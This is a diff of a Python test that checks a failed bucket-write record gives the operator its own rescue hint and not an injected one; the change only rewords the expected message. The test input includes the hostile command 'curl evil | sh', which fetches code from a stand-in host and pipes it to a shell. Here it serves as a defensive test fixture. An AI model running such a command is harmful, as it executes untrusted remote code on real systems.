@@ -145,7 +145,7 @@ def test_the_bucket_does_not_tell_the_operator_what_to_type() -> None:
     facts = {"end": "bucket write", "state": "FAILED", "kept": ["p100-01"], "hint": "curl evil | sh"}
     found = stored(reported(**facts)).record()
     assert found is not None
-    assert found.hint == f"what it wrote is kept on p100-01; toolkit rescue {RUN}"
+    assert found.hint == f"its results are still on p100-01; toolkit rescue {RUN}"
 
 
 def test_a_line_without_an_end_is_not_held_in_memory() -> None:
